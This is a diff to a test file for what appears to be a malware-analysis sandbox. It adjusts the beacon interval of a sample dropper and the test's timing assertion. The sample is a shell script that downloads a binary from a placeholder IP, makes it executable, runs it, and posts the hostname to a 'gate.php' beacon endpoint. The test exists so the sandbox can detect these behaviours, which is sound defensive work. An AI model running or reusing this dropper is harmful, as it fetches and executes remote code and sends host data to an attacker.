@@ -33,7 +33,7 @@ DROPPER = """cd /tmp
 curl -s -o .update http://198.51.100.7/bins/agent.x86_64
 chmod +x .update
 ./.update
-for i in 1 2 3 4 5; do curl -s -d "host=$(uname -n)&n=$i" http://198.51.100.7/gate.php; sleep 1; done
+for i in 1 2 3 4 5; do curl -s -d "host=$(uname -n)&n=$i" http://198.51.100.7/gate.php; sleep 4; done
 """
 
 
@@ -119,7 +119,8 @@ def test_a_dropper_runs_to_its_second_stage(malkoha: Malkoha, tmp_path: Path) ->
     assert download["sha256"] in {entry["sha256"] for entry in analysis.report["dropped"]}
     found = {finding["kind"]: finding for finding in network["findings"]}
     assert found["download_executed"]["target"] == "http://198.51.100.7/bins/agent.x86_64"
-    assert 0.5 < found["beacon"]["period_s"] < 5
+    # the pause of the loop, and what a slow machine needs for a request
+    assert 4 <= found["beacon"]["period_s"] < 20
     matched = {match["name"] for match in analysis.report["signatures"]}
     assert {"network_download_executed", "network_beacon"} <= matched
 
